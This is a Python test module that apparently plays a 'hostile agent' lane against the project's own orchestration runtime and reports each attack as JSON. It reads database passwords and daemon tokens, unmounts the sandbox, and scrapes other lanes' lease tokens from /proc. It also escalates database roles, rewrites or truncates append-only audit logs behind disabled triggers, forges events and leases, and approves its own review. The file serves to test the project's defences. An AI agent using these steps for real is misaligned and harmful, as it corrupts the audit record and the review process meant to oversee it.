"""The hostile agent: what a lane can do to the record with what it can reach.

Run by ``fake_agent.py hostile`` as a lane. An agent under review has every reason to
grade its own work, and runs as the same OS user as the worker that started it. This
one tries each attack docs/security.md lists, in order, and reports each attempt
(``attack``, ``target``, ``succeeded``, ``detail``) as JSON in ``hostile.json`` in its
artifact directory and on stdout. The attacks are real: what succeeds changes the
database, as an agent's would; ``doctor`` afterwards shows what it can see of it.

On its first attempt (``STRIATUM_ATTEMPT`` 0) it only keeps its lease token (in the
repository's scratch folder) and fails, so that a later attempt holds the token of an
earlier one to replay.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

OWNER = "postgres"
WAIT_FOR_TARGETS = 60.0


class Report:
    def __init__(self) -> None:
        self.attempts: list[dict[str, Any]] = []

    def add(self, attack: str, succeeded: bool, detail: str, target: str = "") -> bool:
        self.attempts.append({"attack": attack, "target": target, "succeeded": succeeded,
                              "detail": detail[:500]})
        return succeeded

    def sql(self, attack: str, conn: Any, statement: str, params: tuple[Any, ...] = (),
            target: str = "") -> Any:
        """One statement in a transaction of its own: rows (or True) if it ran and, for an
        UPDATE, DELETE or INSERT, changed a row (one that matched none achieved nothing)."""
        try:
            with conn.transaction():
                cur = conn.execute(statement, params)
                rows = cur.fetchall() if cur.description else []
                count = cur.rowcount
        except Exception as exc:  # noqa: BLE001 - every refusal is a finding
            self.add(attack, False, _first_line(exc), target)
            return None
        self.add(attack, count != 0, f"{count} row(s)" if count >= 0 else "ran", target)
        return (rows or True) if count != 0 else None


def _first_line(error: object) -> str:
    text = str(error).strip()
    return text.splitlines()[0] if text else type(error).__name__


def _striatum() -> str:
    beside = Path(sys.executable).parent / "striatum"
    return str(beside) if beside.exists() else (shutil.which("striatum") or "striatum")


def _cli(report: Report, attack: str, target: str, *args: str) -> bool:
    done = subprocess.run([_striatum(), *args, "--json"], capture_output=True, text=True,
                          timeout=120, env=dict(os.environ))
    detail = (done.stdout if done.returncode == 0 else done.stderr).strip()
    return report.add(attack, done.returncode == 0,
                      f"exit {done.returncode}: {detail.splitlines()[0] if detail else ''}",
                      target)


# -- what it can find ----------------------------------------------------------------------


def _passfile(dsn: str | None) -> Path | None:
    if dsn:
        from psycopg.conninfo import conninfo_to_dict

        found = conninfo_to_dict(dsn).get("passfile")
        if found:
            return Path(str(found))
    home = os.environ.get("STRIATUM_HOME")
    return Path(home) / "pgpass" if home else None


def _read(path: Path) -> str | None:
    try:
        return path.read_text(encoding="utf-8")
    except (OSError, UnicodeDecodeError):
        return None


def discover(report: Report) -> tuple[str | None, Path | None]:
    dsn = os.environ.get("STRIATUM_DSN")
    report.add("env.dsn", bool(dsn), "STRIATUM_DSN is set" if dsn else "no STRIATUM_DSN")
    passfile = _passfile(dsn)
    text = _read(passfile) if passfile else None
    report.add("file.pgpass", text is not None,
               f"read {passfile}" if text is not None else f"cannot read {passfile}",
               str(passfile or ""))
    users = {line.split(":")[3] for line in (text or "").splitlines()
             if line.count(":") >= 4 and not line.startswith("#")}
    report.add("file.owner_password", OWNER in users,
               f"passwords for {sorted(users)}" if users else "no password found")
    home = passfile.parent if passfile else None
    token = _read(home / "run" / "client-token") if home else None
    report.add("file.principal_token", bool(token and token.strip()),
               "read the daemon's client-token" if token else "no client-token readable",
               str(home / "run" / "client-token") if home else "")
    return dsn, home


def undo_the_sandbox(report: Report, home: Path | None) -> None:
    """Unmount what hides the striatum home, as a lane that kept a root worker's
    capabilities could, and read the password file again."""
    if home is None:
        report.add("sandbox.unmount", False, "no striatum home known")
        return
    done = subprocess.run(["umount", "-l", str(home)], capture_output=True, text=True,
                          check=False)
    text = _read(home / "pgpass")
    said = done.stderr.strip().splitlines()
    report.add("sandbox.unmount", done.returncode == 0 and text is not None,
               f"umount exit {done.returncode}" + (f": {said[-1]}" if said else ""),
               str(home))


def other_lanes_tokens(report: Report) -> None:
    """Every process of the same user shows its environment in /proc: the lease tokens of
    the other lanes running on this machine are there without any database."""
    mine = os.environ.get("STRIATUM_LEASE")
    found = set()
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            variables = environ.read_bytes().split(b"\0")
        except OSError:
            continue
        for variable in variables:
            if variable.startswith(b"STRIATUM_LEASE="):
                token = variable.split(b"=", 1)[1].decode(errors="replace")
                if token and token != mine:
                    found.add(token)
    report.add("proc.read_lease_tokens", bool(found),
               f"read {len(found)} other lease token(s) from /proc/*/environ")


# -- the database ----------------------------------------------------------------------------


def as_runtime(report: Report, dsn: str) -> Any:
    import psycopg

    try:
        conn = psycopg.connect(dsn, autocommit=True, connect_timeout=10)
    except Exception as exc:  # noqa: BLE001
        report.add("db.connect", False, _first_line(exc))
        return None
    user = conn.execute("SELECT current_user").fetchone()[0]
    report.add("db.connect", True, f"logged in as {user}", user)
    _more_than_runtime(report, "db.superuser", conn)
    report.sql("db.reset_role", conn, "RESET ROLE")
    _more_than_runtime(report, "db.reset_role_gains", conn)
    for role in (OWNER, "pg_write_server_files", "pg_read_server_files"):
        if report.sql("db.set_role", conn, f'SET ROLE "{role}"', target=role):
            conn.execute("RESET ROLE")
    return conn


def _more_than_runtime(report: Report, attack: str, conn: Any) -> None:
    row = conn.execute(
        "SELECT current_user, r.rolsuper, "
        "has_table_privilege('striatum.events', 'UPDATE') "
        "OR has_table_privilege('striatum.events', 'TRUNCATE') "
        "FROM pg_roles r WHERE r.rolname = current_user").fetchone()
    report.add(attack, bool(row[1] or row[2]),
               f"current_user {row[0]}, superuser {row[1]}, may rewrite events {row[2]}",
               row[0])


def rewrite_record(report: Report, conn: Any, prefix: str) -> None:
    """The append-only tables, as whoever ``conn`` is."""
    run = os.environ["STRIATUM_RUN"]
    report.sql(f"{prefix}.update_events", conn,
               "UPDATE striatum.events SET payload = payload || ' ' WHERE seq = (SELECT "
               "max(seq) FROM striatum.events WHERE run_id = %s) AND run_id = %s", (run, run))
    report.sql(f"{prefix}.delete_events", conn,
               "DELETE FROM striatum.events WHERE seq = (SELECT max(seq) FROM "
               "striatum.events WHERE run_id = %s) AND run_id = %s", (run, run))
    report.sql(f"{prefix}.update_audit", conn,
               "UPDATE striatum.audit_log SET actor = 'someone else' "
               "WHERE seq = (SELECT max(seq) FROM striatum.audit_log)")
    report.sql(f"{prefix}.delete_audit", conn,
               "DELETE FROM striatum.audit_log WHERE seq = (SELECT max(seq) FROM "
               "striatum.audit_log)")
    report.sql(f"{prefix}.truncate_events", conn, "TRUNCATE striatum.events CASCADE")
    report.sql(f"{prefix}.truncate_audit", conn, "TRUNCATE striatum.audit_log")
    report.sql(f"{prefix}.disable_triggers", conn,
               "ALTER TABLE striatum.events DISABLE TRIGGER events_append_only")


def edit_behind_the_triggers(report: Report, conn: Any, prefix: str) -> None:
    """Turn the trigger off, edit the run's first event, turn it on again, in one
    transaction: what a superuser can do, and what only the chain's hashes show."""
    run = os.environ["STRIATUM_RUN"]
    try:
        with conn.transaction():
            conn.execute("ALTER TABLE striatum.events DISABLE TRIGGER events_append_only")
            cur = conn.execute(
                "UPDATE striatum.events SET payload = payload || ' ' WHERE run_id = %s "
                "AND seq = (SELECT min(seq) FROM striatum.events WHERE run_id = %s)",
                (run, run))
            edited = cur.rowcount
            conn.execute("ALTER TABLE striatum.events ENABLE TRIGGER events_append_only")
    except Exception as exc:  # noqa: BLE001
        report.add(f"{prefix}.edit_event", False, _first_line(exc), run)
        return
    report.add(f"{prefix}.edit_event", edited == 1, f"edited {edited} event(s) of the run",
               run)


def insert_forged_event(report: Report, conn: Any) -> None:
    """An event appended by hand, far past the chain's head so that the runtime's next
    append does not collide with it: INSERT is granted, so only doctor stops this."""
    run = os.environ["STRIATUM_RUN"]
    report.sql("db.insert_event", conn,
               "INSERT INTO striatum.events (repo_id, seq, run_id, job_id, type, payload, "
               "previous_hash, row_hash) SELECT repo_id, max(seq) + 1000000, %s, 'review', "
               "'job.verdict', '{}', repeat('0', 64), repeat('0', 64) FROM striatum.events "
               "WHERE run_id = %s GROUP BY repo_id", (run, run), target=run)


def log_in_as_owner(report: Report, dsn: str) -> Any:
    import psycopg
    from psycopg.conninfo import conninfo_to_dict, make_conninfo

    params = conninfo_to_dict(dsn)
    if params.get("user") == OWNER:
        report.add("db.owner_login", True, "the DSN handed to the lane is the owner's")
        return psycopg.connect(dsn, autocommit=True, connect_timeout=10)
    params["user"] = OWNER
    try:
        conn = psycopg.connect(make_conninfo(**params), autocommit=True, connect_timeout=10)
    except Exception as exc:  # noqa: BLE001
        report.add("db.owner_login", False, _first_line(exc), OWNER)
        return None
    report.add("db.owner_login", True, "logged in as the owner with the password found",
               OWNER)
    return conn


# -- other jobs' leases ----------------------------------------------------------------------


def wait_for_targets(conn: Any) -> list[tuple[str, str, str, str]]:
    """Live leases of other jobs (this run's and other runs'): (run, job, token, kind)."""
    me = (os.environ["STRIATUM_RUN"], os.environ["STRIATUM_JOB"])
    deadline = time.monotonic() + WAIT_FOR_TARGETS
    while True:
        rows = conn.execute(
            "SELECT run_id, job_id, lease_token, kind FROM striatum.jobs "
            "WHERE status = 'leased' AND lease_token IS NOT NULL "
            "AND lease_expires_at > now() ORDER BY run_id, job_id").fetchall()
        rows = [tuple(r) for r in rows if (r[0], r[1]) != me]
        runs = {r[0] for r in rows}
        if (me[0] in runs and len(runs) > 1) or time.monotonic() > deadline:
            return rows
        time.sleep(0.5)


def forged(token: str) -> str:
    fence = token.split("-", 1)[0]
    return f"{fence}-{secrets.token_hex(16)}"


def attack_leases(report: Report, targets: list[tuple[str, str, str, str]],
                  out: Path) -> None:
    me = os.environ["STRIATUM_RUN"]
    report.add("db.read_lease_tokens", bool(targets),
               f"read {len(targets)} live lease token(s) of other jobs",
               ", ".join(f"{r}/{j}" for r, j, _, _ in targets))
    for run, job, token, kind in targets:
        where = "this_run" if run == me else "other_run"
        target = f"{run}/{job}"
        ends = ("job", "verdict", "accept", "--reason", "hostile: my own work is fine") \
            if kind == "review" else ("job", "complete")
        lease = ("--run", run, "--job", job, "--lease")
        _cli(report, f"{where}.end_forged_token", target, *ends, *lease, forged(token))
        for name in _produces(run, job):
            fake = out / f"forged-{job}-{name.replace('/', '_')}"
            fake.write_text(f"# {name}\n\nWritten by the hostile agent.\n", encoding="utf-8")
            _cli(report, f"{where}.publish_stolen_token", target, "job", "publish",
                 *lease, token, "--artifact", str(fake), "--as", name)
        _cli(report, f"{where}.end_stolen_token", target, *ends, *lease, token)


_PRODUCES: dict[tuple[str, str], list[str]] = {}


def _produces(run: str, job: str) -> list[str]:
    return _PRODUCES.get((run, job), [])


def read_produces(conn: Any, targets: list[tuple[str, str, str, str]]) -> None:
    """What each target job must publish before it may end, from its run's pinned
    workflow (readable to the runtime role like the rest of the projection)."""
    for run, job, _, _ in targets:
        row = conn.execute(
            "SELECT w.compiled FROM striatum.runs r JOIN striatum.workflows w "
            "ON w.digest = r.workflow_digest WHERE r.id = %s", (run,)).fetchone()
        jobs = json.loads(row[0]).get("workflow", {}).get("jobs", []) if row else []
        for declared in jobs:
            if declared.get("id") == job:
                _PRODUCES[(run, job)] = list(declared.get("produces") or [])


def rewrite_projection(report: Report, conn: Any,
                       targets: list[tuple[str, str, str, str]]) -> None:
    """The jobs table is the runtime role's to write (every transition writes it): change
    a job of another run that has ended, behind the state machines' back."""
    me = os.environ["STRIATUM_RUN"]
    for run, job, _, _ in targets:
        if run != me:
            report.sql("db.update_projection", conn,
                       "UPDATE striatum.jobs SET revisions_used = revisions_used + 7 "
                       "WHERE run_id = %s AND job_id = %s AND status = 'succeeded'",
                       (run, job), target=f"{run}/{job}")
            return


def replay(report: Report, earlier: str | None) -> None:
    run, job = os.environ["STRIATUM_RUN"], os.environ["STRIATUM_JOB"]
    if earlier is None:
        report.add("replay.earlier_attempt", False, "no token of an earlier attempt was kept")
        return
    _cli(report, "replay.earlier_attempt", f"{run}/{job}", "job", "heartbeat",
         "--run", run, "--job", job, "--lease", earlier)


def claim_and_let_expire(report: Report, conn: Any) -> None:
    """Claim a ready job of another run (the DSN allows it), let the lease lapse, then
    present the expired token."""
    me = os.environ["STRIATUM_RUN"]
    row = conn.execute("SELECT run_id FROM striatum.jobs WHERE status = 'ready' "
                       "AND run_id <> %s ORDER BY run_id LIMIT 1", (me,)).fetchone()
    if row is None:
        report.add("other_run.claim", False, "no ready job of another run to claim")
        return
    other = row[0]
    done = subprocess.run([_striatum(), "job", "claim", "--run", other, "--owner", "hostile",
                           "--lease-seconds", "5", "--json"], capture_output=True, text=True,
                          timeout=120, env=dict(os.environ))
    if done.returncode != 0:
        report.add("other_run.claim", False, f"exit {done.returncode}: {done.stderr.strip()}",
                   other)
        return
    claimed = json.loads(done.stdout)
    job, token = claimed.get("job"), claimed.get("lease") or claimed.get("token")
    report.add("other_run.claim", bool(job and token), f"claimed {job}", f"{other}/{job}")
    if not (job and token):
        return
    time.sleep(7)
    _cli(report, "replay.expired_token", f"{other}/{job}", "job", "heartbeat",
         "--run", other, "--job", str(job), "--lease", str(token))


# -- the daemon --------------------------------------------------------------------------------


def daemon(report: Report, home: Path | None, stolen: list[tuple[str, str, str, str]]) -> None:
    sock = home / "run" / "daemon.sock" if home else None
    if sock is None or not sock.exists():
        report.add("daemon.reach", False, "no daemon socket found", str(sock or ""))
        return
    report.add("daemon.reach", True, "found the daemon's socket", str(sock))

    def call(attack: str, method: str, params: dict[str, Any], token: str | None,
             target: str = "") -> None:
        envelope: dict[str, Any] = {"protocol": 1, "actor": "hostile"}
        if token:
            envelope["token"] = token
        request = {"jsonrpc": "2.0", "id": 1, "method": method, "params": params,
                   "striatum": envelope}
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(30)
                s.connect(str(sock))
                s.sendall(json.dumps(request).encode() + b"\n")
                answer = json.loads(s.makefile("rb").readline())
        except (OSError, ValueError) as exc:
            report.add(attack, False, _first_line(exc), target)
            return
        error = answer.get("error")
        report.add(attack, error is None,
                   "answered" if error is None else f"{error.get('code')}: "
                   f"{(error.get('data') or {}).get('code')}: {error.get('message')}", target)

    run = os.environ["STRIATUM_RUN"]
    call("daemon.no_token", "run.cancel", {"run": run}, None, run)
    mine = os.environ["STRIATUM_LEASE"]
    for other_run, other_job, _, _ in stolen:
        call("daemon.own_lease_on_other_job", "job.complete",
             {"run": other_run, "job": other_job, "lease": mine}, None,
             f"{other_run}/{other_job}")
    principal = _read(home / "run" / "client-token") if home else None
    if principal:
        call("daemon.principal_token", "run.status", {"run": run}, principal.strip(), run)


# -- the whole attack ----------------------------------------------------------------------------


def _state_file() -> Path:
    scratch = Path(os.environ.get("STRIATUM_REPO", ".")) / ".striatum"
    scratch.mkdir(parents=True, exist_ok=True)
    return scratch / f"hostile-{os.environ['STRIATUM_RUN']}-{os.environ['STRIATUM_JOB']}.json"


def main() -> bool:
    """False on the first attempt (the lane fails); True once the attacks are reported."""
    state = _state_file()
    if os.environ.get("STRIATUM_ATTEMPT", "0") == "0":
        state.write_text(json.dumps({"token": os.environ["STRIATUM_LEASE"]}), encoding="utf-8")
        print("hostile agent: kept this attempt's lease token; failing", file=sys.stderr)
        return False
    earlier = json.loads(state.read_text(encoding="utf-8")).get("token") \
        if state.is_file() else None
    out = Path(os.environ["STRIATUM_ARTIFACT_DIR"])
    out.mkdir(parents=True, exist_ok=True)
    report = Report()
    dsn, home = discover(report)
    undo_the_sandbox(report, home)
    other_lanes_tokens(report)
    conn = as_runtime(report, dsn) if dsn else None
    targets: list[tuple[str, str, str, str]] = []
    if conn is not None:
        targets = wait_for_targets(conn)
        read_produces(conn, targets)
        rewrite_record(report, conn, "db")
        insert_forged_event(report, conn)
    daemon(report, home, targets)
    if conn is not None:
        # Before the other run's held job ends (below), while its worker is busy with it
        # and leaves the ready job to be claimed here.
        claim_and_let_expire(report, conn)
    attack_leases(report, targets, out)
    replay(report, earlier)
    if conn is not None:
        rewrite_projection(report, conn, targets)
    owner = log_in_as_owner(report, dsn) if dsn else None
    if owner is not None:
        _more_than_runtime(report, "owner.superuser", owner)
        edit_behind_the_triggers(report, owner, "owner")
    document = json.dumps({"attempts": report.attempts}, indent=1)
    (out / "hostile.json").write_text(document, encoding="utf-8")
    print(document)
    return True
